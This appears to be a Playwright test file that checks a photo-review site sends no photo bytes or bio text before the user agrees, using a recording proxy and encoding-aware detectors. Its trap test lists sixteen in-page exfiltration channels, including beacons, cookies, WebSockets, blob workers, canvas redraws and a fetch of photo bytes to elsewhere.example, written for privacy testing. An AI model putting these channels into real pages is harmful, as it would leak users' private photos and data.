import type { Browser } from '@playwright/test';
import { drawnHeic } from '../test/drawn-photos.ts';
import { loadFixture } from '../test/photo-fixtures.ts';
import { expect, test, untilAnalysed } from './journey.ts';
import { finished } from './photo-review.ts';
import { startRecordingProxy, type Sent } from './recording-proxy.ts';
import { askForCode } from './sign-in.ts';
import { agreeToAll } from './tags.ts';

// Photos as phones write them, with names and a text that appear nowhere else.
const photos = [loadFixture('franck-smiling.jpg'), loadFixture('group-of-three-smiling.jpg'), drawnHeic].map(
  (buffer, index) => {
    const kind = buffer === drawnHeic ? 'heic' : 'jpeg';
    return { name: `holiday-with-mira-${index}.${kind}`, mimeType: `image/${kind}`, buffer };
  },
);
const bio = 'Beekeeper in Ullapool. Looking for my partner in crime. What did you bake last?';

/** Runs of a photo's bytes that nothing else has by chance: of its head, its picture and its end. */
const piecesOf = (photo: Buffer) =>
  [0.02, 0.2, 0.4, 0.6, 0.8, 0.98].map((share) => {
    const start = Math.floor(photo.length * share);
    return photo.subarray(start, start + 24);
  });

/** Bytes as they may be written in an address, a header or a text. */
function writtenForms(bytes: Buffer): string[] {
  // Whatever comes before them shifts base64 by up to two bytes.
  const base64 = [0, 1, 2].map((shift) =>
    bytes
      .subarray(shift, shift + 21)
      .toString('base64')
      .slice(0, 27),
  );
  const bare = base64.map((text) => text.replaceAll('+', '-').replaceAll('/', '_'));
  const escaped = base64.map((text) => encodeURIComponent(text));
  const hex = bytes.toString('hex');
  return [
    bytes.toString('latin1'),
    ...base64,
    ...bare,
    ...escaped,
    hex,
    hex.toUpperCase(),
    [...bytes].join(','),
  ];
}

const words = ['holiday-with-mira', 'Beekeeper', 'Ullapool', 'partner in crime'];
const secrets = [
  ...photos.flatMap(({ buffer }) => piecesOf(buffer)).flatMap(writtenForms),
  ...words.flatMap((text) => [text, ...writtenForms(Buffer.from(text))]).filter((text) => text.length >= 8),
];

const holdsSecret = ({ method, url, headers, body }: Sent): boolean => {
  const all = [method, url, headers.join('\n'), body.toString('latin1')].join('\n');
  return secrets.some((secret) => all.includes(secret));
};

/** What the page may ask for: its own files, by addresses that hold nothing of a photo. */
const ownFiles =
  /^\/(?:try(?:\/keep)?|assets\/[\w.-]+|models\/[\da-f]{64}\/\d{1,3}|[\w-]+\.(?:js|webmanifest|svg|png|ico)|icons\/[\w.-]+|fonts\/[\w.-]+)$/;
const ownHeaders =
  /^(?:host|proxy-connection|connection|cache-control|pragma|user-agent|accept|accept-encoding|accept-language|origin|referer|cookie|content-type|content-length|if-none-match|if-modified-since|range|priority|purpose|upgrade-insecure-requests|service-worker|sec-(?:ch-ua[\w-]*|fetch-[\w-]+|purpose)|save-data)$/i;
const ownCookies = /^(?:loupe_session|loupe_consent)=[^;]*$/;

/** What every page of the site tells the server when it is opened. */
const ofEveryPage: Record<string, (said: unknown) => boolean> = {
  '/api/visits': (said) =>
    hasOnly(said, {
      url: /^http:\/\/[\d.:]+\/try$/,
      referrer: /^$/,
      timestampLocal: /^[\dT:.+-]{20,35}$/,
      isTestSession: /^true$/,
    }),
  '/api/activities': (said) =>
    Array.isArray(said) &&
    said.every((activity: unknown) => {
      const { details, ...others } = activity as { details: unknown };
      const isPlain = hasOnly(others, {
        type: /^page_view$/,
        title: /^Page View$/,
        description: /^Viewed Review My Photos$/,
        url: /^http:\/\/[\d.:]+\/try$/,
        referrer: /^$/,
        timestamp_local: /^[\dT:.+-]{20,35}$/,
        pageId: /^[\da-z]{1,10}-\d$/,
      });
      return isPlain && hasOnly(details, { page: /^Review My Photos$/ });
    }),
};

function hasOnly(said: unknown, known: Record<string, RegExp>): boolean {
  return (
    typeof said === 'object' &&
    said !== null &&
    Object.entries(said).every(([name, value]) => known[name]?.test(String(value)) === true)
  );
}

/** Why a request that was sent while photos were being reviewed should not have been; null for what every page asks. */
function problemWith(entry: Sent, origin: string): string | null {
  const { method, url, headers, body } = entry;
  if (holdsSecret(entry)) return `${method} ${url} holds a part of a photo or of the bio`;
  if (!URL.canParse(url) || new URL(url).origin !== origin) return `${method} ${url} goes elsewhere`;
  const { pathname, search } = new URL(url);
  for (let index = 0; index < headers.length; index += 2) {
    const [name = '', value = ''] = headers.slice(index, index + 2);
    if (!ownHeaders.test(name) || value.length > 600) return `${method} ${url} has the header ${name}`;
    if (name.toLowerCase() === 'cookie' && !value.split('; ').every((cookie) => ownCookies.test(cookie)))
      return `${method} ${url} has another cookie: ${value}`;
  }
  if (search !== '') return `${method} ${url} has a query`;
  const mayBeSaid = method === 'POST' ? ofEveryPage[pathname] : undefined;
  if (mayBeSaid) return isJson(body, mayBeSaid) ? null : `${method} ${url} says more: ${body.toString()}`;
  if (method !== 'GET' || body.length > 0 || !ownFiles.test(pathname)) return `${method} ${url}`;
  return null;
}

function isJson(body: Buffer, isFine: (said: unknown) => boolean): boolean {
  try {
    return isFine(JSON.parse(body.toString()));
  } catch {
    return false;
  }
}

const problemsIn = (sent: readonly Sent[], origin: string) =>
  sent.flatMap((entry) => problemWith(entry, origin) ?? []);

/** Ways in which a page could send something: each says 'sent', or why the browser did not let it. */
const waysOut = [
  'fetch',
  'keepalive',
  'query',
  'path',
  'header',
  'cookie',
  'beacon',
  'request',
  'image',
  'stream',
  'form',
  'socket',
  'elsewhere',
  'worker',
  'redrawn',
  'counted',
] as const;

/** Runs in the page: sends a piece of a photo, or what was found in it, in one of these ways. */
async function sendBy([way, numbers]: [(typeof waysOut)[number], number[]]): Promise<void> {
  const bytes = Uint8Array.from(numbers);
  const hex = numbers.map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const post = (body: BodyInit) => fetch('/api/activities', { method: 'POST', body });
  const soon = () => new Promise((resolve) => setTimeout(resolve, 500));
  switch (way) {
    case 'fetch':
      await post(bytes);
      break;
    case 'keepalive':
      await fetch('/api/visits', { method: 'POST', body: bytes, keepalive: true });
      break;
    case 'query':
      await fetch(`/healthz?q=${encodeURIComponent(btoa(String.fromCharCode(...bytes)))}`);
      break;
    case 'path':
      await fetch(`/assets/${hex}.js`);
      break;
    case 'header':
      await fetch('/healthz', { headers: { accept: hex } });
      break;
    case 'cookie':
      document.cookie = `more=${hex}`;
      await fetch('/try');
      document.cookie = 'more=; Max-Age=0';
      break;
    case 'beacon':
      navigator.sendBeacon('/api/activities', new Blob([bytes]));
      await soon();
      break;
    case 'request': {
      const request = new XMLHttpRequest();
      request.open('PUT', '/api/activities');
      request.send(bytes);
      await soon();
      break;
    }
    case 'image':
      new Image().src = `/icons/${hex}.png?`;
      await soon();
      break;
    case 'stream':
      new EventSource(`/healthz?${hex}`).addEventListener('error', ({ target }) =>
        (target as EventSource).close(),
      );
      await soon();
      break;
    case 'form': {
      const frame = Object.assign(document.createElement('iframe'), { name: 'out' });
      const form = Object.assign(document.createElement('form'), { action: '/try', target: 'out' });
      form.append(Object.assign(document.createElement('input'), { name: 'q', value: hex }));
      document.body.append(frame, form);
      form.submit();
      await soon();
      break;
    }
    case 'socket': {
      const socket = new WebSocket(`ws://${location.host}/${hex}`);
      socket.addEventListener('error', () => undefined);
      await soon();
      break;
    }
    case 'elsewhere':
      await fetch(`http://elsewhere.example/${hex}`, { mode: 'no-cors' });
      break;
    case 'worker': {
      const script = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(`${location.origin}/${hex}`)})`]));
      new Worker(script);
      await soon();
      break;
    }
    case 'redrawn': {
      const shown = document.querySelector<HTMLImageElement>('#photos img');
      const canvas = Object.assign(document.createElement('canvas'), { width: 32, height: 32 });
      if (shown === null) throw new Error('There is no photo on the page');
      canvas.getContext('2d')?.drawImage(shown, 0, 0, 32, 32);
      await post(canvas.toDataURL('image/webp', 0.3));
      break;
    }
    case 'counted':
      await post(JSON.stringify([{ type: 'page_view', title: 'Page View', faces: 4 }]));
  }
}

/** Stopped by the content security policy before anything is sent. */
const stoppedWays = new Set<string>(['elsewhere', 'worker']);

test.use({ expectedConsoleError: /Failed to load resource|WebSocket|EventSource|Content Security Policy/ });

/** A browser's window of its own, of which everything that leaves it is recorded. */
async function openRecorded(browser: Browser, baseURL: string | undefined) {
  const proxy = await startRecordingProxy();
  const { origin } = new URL(baseURL ?? '');
  const context = await browser.newContext({
    baseURL: origin,
    serviceWorkers: 'allow',
    proxy: { server: proxy.server },
  });
  await agreeToAll(context, origin);
  // Calls between browsers go by no proxy.
  await context.addInitScript(() => {
    Object.assign(window, { calls: 0 });
    const Call = window.RTCPeerConnection;
    window.RTCPeerConnection = class extends Call {
      constructor(...options: ConstructorParameters<typeof Call>) {
        super(...options);
        (window as unknown as { calls: number }).calls += 1;
      }
    };
  });
  const close = async () => {
    await context.close();
    await proxy.close();
  };
  return { page: await context.newPage(), sent: proxy.sent, origin, close };
}

test('nothing of a photo or a bio leaves the browser before it is to be kept', async ({
  browser,
  baseURL,
}) => {
  const { page, sent, origin, close } = await openRecorded(browser, baseURL);
  const dataLayer = () =>
    page.evaluate(() => (window as unknown as { dataLayer: Record<string, unknown>[] }).dataLayer);

  await test.step('a whole review sends what every page sends', async () => {
    await page.goto('/try');
    await expect(page.getByText('It works with the network off, too.')).toBeVisible(untilAnalysed);
    await page.locator('input[type=file]').first().setInputFiles(photos);
    await expect(finished(page)).toBeAttached(untilAnalysed);
    await page.getByRole('textbox', { name: 'Bio' }).fill(bio);
    await expect(page.getByText(/Replace “partner in crime”/).first()).toBeVisible();
    await page.getByText('Bumble', { exact: true }).click();
    await expect(finished(page)).toBeAttached(untilAnalysed);
    await page.getByRole('button', { name: /^Photo 1: / }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Remove this photo' }).click();
    await expect(finished(page)).toBeAttached(untilAnalysed);
    // What waits is sent when the page is hidden or left.
    await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
    await page.waitForLoadState('networkidle');
    // A body that is still arriving looks like one that says something else.
    await expect.poll(() => problemsIn(sent, origin)).toEqual([]);
    const paths = sent.map(({ url }) => new URL(url).pathname);
    expect(paths, 'the trap sees the engine’s worker').toContainEqual(expect.stringMatching(/^\/models\//));
    expect(paths, 'and the service worker').toContain('/service-worker.js');
    expect(paths, 'and visits').toContain('/api/visits');
    expect(await page.evaluate(() => (window as unknown as { calls: number }).calls)).toBe(0);
  });

  await test.step('those who count visits hear that the page was opened, and no more', async () => {
    const told = await dataLayer();
    expect(told.map(({ event }) => event)).toEqual(['page_view']);
    expect(Object.keys(told[0] ?? {}).toSorted()).toEqual([
      'event',
      'page_location',
      'page_name',
      'page_title',
    ]);
  });

  await test.step('the way to an account sends nothing of them either', async () => {
    const before = sent.length;
    await page.getByRole('checkbox', { name: 'Include my bio' }).uncheck();
    await page.getByRole('button', { name: 'Keep this' }).click();
    await page.getByRole('checkbox', { name: /I am 18 or older/ }).check();
    await page.getByLabel('6-digit code').fill(await askForCode(page, '471'));
    await expect(page.getByRole('button', { name: 'I agree' })).toBeVisible();
    expect(
      sent
        .slice(before)
        .filter(holdsSecret)
        .map(({ url }) => url),
    ).toEqual([]);
    expect(JSON.stringify(await dataLayer())).not.toMatch(/mira|Beekeeper|photo_count|faces/);
  });

  await test.step('agreed, the photos are sent as they are, without their names or the bio that was left out', async () => {
    const before = sent.length;
    await page.getByRole('button', { name: 'I agree' }).click();
    await expect(page).toHaveURL('/dashboard');
    const holding = sent.slice(before).filter(holdsSecret);
    expect(
      holding
        .map(({ method, url }) => `${method} ${new URL(url).pathname.replace(/[\da-f-]{36}/, '…')}`)
        .toSorted(),
    ).toEqual(['PUT /api/profiles/…/photos/0', 'PUT /api/profiles/…/photos/1']);
    for (const { name, buffer } of photos.slice(1))
      expect(
        holding.some(({ body }) => body.equals(buffer)),
        name,
      ).toBe(true);
    const texts = sent.map(({ url, body }) => url + body.toString('latin1')).join('\n');
    expect(words.filter((text) => texts.includes(text))).toEqual([]);
  });

  await close();
});

test('the trap notices what is sent, whichever way it takes', async ({ browser, baseURL }) => {
  const { page, sent, origin, close } = await openRecorded(browser, baseURL);
  await page.goto('/try');
  await page.locator('input[type=file]').first().setInputFiles(photos.slice(0, 1));
  await expect(finished(page)).toBeAttached(untilAnalysed);
  await page.waitForLoadState('networkidle');
  await expect.poll(() => problemsIn(sent, origin)).toEqual([]);
  const [photo = Buffer.alloc(0)] = photos.slice(1).map(({ buffer }) => piecesOf(buffer)[2]);
  const noticed: string[] = [];
  for (const way of waysOut) {
    const before = sent.length;
    await page.evaluate(sendBy, [way, [...photo]] as [typeof way, number[]]).catch(() => undefined);
    const isNoticed = () => problemsIn(sent.slice(before), origin).length > 0;
    // Some ways say nothing of when it was sent. Late, it would be taken for the next one's.
    if (!stoppedWays.has(way)) await expect.poll(isNoticed, way).toBe(true);
    if (isNoticed()) noticed.push(way);
  }
  expect(noticed).toEqual(waysOut.filter((way) => !stoppedWays.has(way)));
  await close();
});
